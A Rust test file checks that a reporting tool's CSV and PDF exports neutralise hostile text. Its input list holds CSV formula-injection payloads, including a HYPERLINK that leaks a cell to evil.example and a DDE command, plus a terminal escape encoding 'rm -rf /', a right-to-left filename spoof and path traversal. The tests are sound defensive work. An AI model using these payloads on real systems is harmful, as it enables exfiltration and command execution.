//! Texts that are meant to harm: formulas, escape sequences, overrides of direction, long names.

use fluxnoc::model::{Figures, Name, SafeText, Test, TestPhase, Timestamp};
use fluxnoc::report::{Asked, Row, csv, pdf, summarize, verify};

use crate::history::{asked, run, sla, start};

fn texts() -> Vec<String> {
    let mut all: Vec<String> = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
        "=cmd|'/c calc'!A0",
        "+1+1",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "\0=1+1",
        "\n=1+1",
        "a\n=1+1\nresult,forged,2026-01-01T00:00:00.000Z",
        "a\r\ndigest,sha256,,,,",
        "\u{1b}]52;c;cm0gLXJmIC8=\u{7}",
        "\u{1b}[2Jcleared",
        "abc\u{202e}fdp.exe",
        "zero\u{200b}width\u{feff}",
        "\"quoted\", and 'quoted'",
        "'=already guarded",
        "＝1+1",
        "日本語 العربية 🦀",
        "..\\..\\etc/passwd%00",
        "",
    ]
    .map(str::to_owned)
    .to_vec();
    all.push("x".repeat(10_000));
    all.push("=".repeat(10_000));
    all.push(format!("e{}", "\u{301}".repeat(10_000)));
    all
}

fn tests() -> Vec<Test> {
    let make = |(number, text): (u64, String)| {
        let at = Timestamp::from_millis(start().millis() + i64::try_from(number).unwrap() * 60_000);
        let mut test = run(number, at, Figures { download_mbps: Some(1.0), ..Figures::default() });
        test.agent = Name::from(&*text);
        test.target = SafeText::text(&text);
        test.asked_by = SafeText::text(&text);
        test.reason = SafeText::text(&text);
        test.phase = if number % 2 == 0 { TestPhase::Done } else { TestPhase::Failed };
        test
    };
    (1..).zip(texts()).map(make).collect()
}

fn hostile(text: &str) -> Asked {
    let mut sla = sla();
    sla.customer = Some(text.to_owned());
    sla.carrier = Some(text.to_owned());
    sla.link = Some(text.to_owned());
    Asked { agent: SafeText::text(text), target: SafeText::text(text), ..asked(Some(sla)) }
}

#[test]
fn t14_80_81_hostile_texts_stay_texts_in_the_csv() {
    let tests = tests();
    for text in texts() {
        let report = summarize(hostile(&text), &tests);
        let file = csv::write(&report, &tests, Vec::new()).unwrap();
        let verified = verify::csv(&file).unwrap();
        assert_eq!(verified.results, tests.len() as u64);
        assert_eq!(verified.digest, report.digest, "{text:?}");
        let rows: Vec<Row> = tests.iter().map(Row::of).collect();
        assert_eq!(csv::read(&file).unwrap().rows, rows);
        // Line by line and cell by cell, as a spreadsheet reads it.
        let plain = String::from_utf8(file).unwrap();
        let bad = |c: char| c.is_control() && c != '\n' || "\u{202e}\u{200b}\u{feff}".contains(c);
        assert!(!plain.contains(bad));
        let results = plain.lines().filter(|line| line.starts_with("result,"));
        assert_eq!(results.count(), tests.len(), "no text makes a line of its own");
        for record in ::csv::Reader::from_reader(plain.as_bytes()).records() {
            for cell in &record.unwrap() {
                let is_number = cell.parse::<f64>().is_ok();
                assert!(is_number || !cell.starts_with(['=', '+', '-', '@', '＝']), "{cell}");
            }
        }
    }
}

#[test]
fn numbers_stay_numbers() {
    let mut test =
        run(1, start(), Figures { download_mbps: Some(0.1 + 0.2), ..Figures::default() });
    test.figures.latency_ms = Some(-5.25);
    test.figures.loss_pct = Some(1e300);
    test.figures.jitter_ms = Some(5e-324);
    let row = Row::of(&test);
    let cells = row.cells();
    assert_eq!(cells[10], "0.30000000000000004");
    assert_eq!(cells[12], "-5.25", "a number is no formula");
    let again = Row::parse(|index| &cells[index]).unwrap();
    assert_eq!(again, row);
}

#[test]
fn t14_hostile_texts_harm_no_pdf() {
    let tests = tests();
    for text in texts() {
        let report = summarize(hostile(&text), &tests);
        let file = pdf::write(&report).unwrap();
        assert!(file.starts_with(b"%PDF-") && file.len() < 2_000_000);
        let table = csv::write(&report, &tests, Vec::new()).unwrap();
        assert_eq!(verify::pdf(&file, &table).unwrap().digest, report.digest);
    }
}
